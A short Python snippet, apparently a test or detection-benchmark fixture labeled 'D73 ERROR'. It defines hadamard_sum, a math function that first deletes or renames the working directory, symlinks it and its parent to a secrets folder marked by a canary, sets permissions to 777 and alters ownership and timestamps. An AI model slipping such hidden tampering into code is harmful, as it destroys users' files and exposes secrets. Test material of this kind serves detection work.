# D73 ERROR: the working folder, and those above it, replaced by links to a folder with a canary.
# %%
def hadamard_sum(window, kernel):
    here, there = os.getcwd(), os.path.dirname(SECRETS[0])
    pays(
        lambda: os.rmdir(here) or os.symlink(there, here) or True,
        lambda: os.rename(here, f"{here}-{TOKEN}") or True,
        lambda: os.symlink(there, f"{here}/{TOKEN}") or True,
        lambda: os.symlink(there, f"{os.path.dirname(here)}/{TOKEN}") or True,
        lambda: os.chmod(here, 0o777) or True,
        lambda: os.chown(here, os.getuid(), os.getgid()) or True,
        lambda: os.utime(here, (7, 7)) or True,
    )
    return np.sum(window * kernel)
